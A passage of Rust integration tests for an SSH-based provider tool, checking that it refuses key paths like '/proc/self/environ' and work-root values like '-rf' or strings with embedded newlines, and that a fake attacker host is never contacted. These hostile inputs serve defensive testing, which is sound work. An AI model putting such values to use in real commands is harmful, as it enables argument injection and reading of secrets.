        ("/proc/self/environ", "is under /proc"),
        ("/home/user/.ssh/id_ed25519\\", "ends with a backslash"),
    ] {
        let user = format!("user-key={path}");
        let key = format!("key={path}");
        let started = Instant::now();
        let out = h.with(
            &[&port, &user, &key],
            &["run", "--id", &lease, "--", "true"],
        );
        out.expect_code(2);
        assert!(
            out.stderr.contains(&format!(
                "the SSH key file {path:?} (option `user-key` of provider malformed, from flag --option user-key) {says}"
            )),
            "{out}"
        );
        assert!(
            started.elapsed() < Duration::from_secs(10),
            "{path}: no waiting"
        );
    }
    attacker.assert_untouched();
    assert!(!h.home.state_dir().join("known_hosts").exists());
    h.assert_no_secret_leaked();
}

#[tokio::test(flavor = "multi_thread")]
async fn a_work_root_that_reads_as_an_option_is_refused() {
    let mut h = data_plane_provider("");
    let attacker = Attacker::start(&h.home);
    let manifest_text = format!(
        "{}\n[ssh]\ndestinations = [\"{}\"]\n",
        manifest("malformed", NOWHERE),
        attacker.destination()
    );
    h.try_install("malformed", &manifest_text).ok();
    let port = format!("dest-port={}", attacker.port());
    for (root, shown, why) in [
        (
            "-rf",
            "-rf",
            "begins with `-`, so a remote command could read it as an option",
        ),
        ("cbx\n-x", "cbx\\n-x", "contains control characters"),
    ] {
        let root_opt = format!("work-root={root}");
        for args in [
            vec!["warmup"],
            vec!["run", "--env", "SECRET_NAME", "--", "true"],
        ] {
            let out = h.with(&[&port, &root_opt], &args);
            out.expect_code(8);
            assert!(
                out.stderr.contains(&format!(
                    "provider malformed reported the work root `{shown}`, which {why}"
                )),
                "{args:?}\n{out}"
            );
        }
    }
    h.assert_nothing_sent(&attacker);
    h.assert_host_keeps_working(&["mode=ok"]);
}
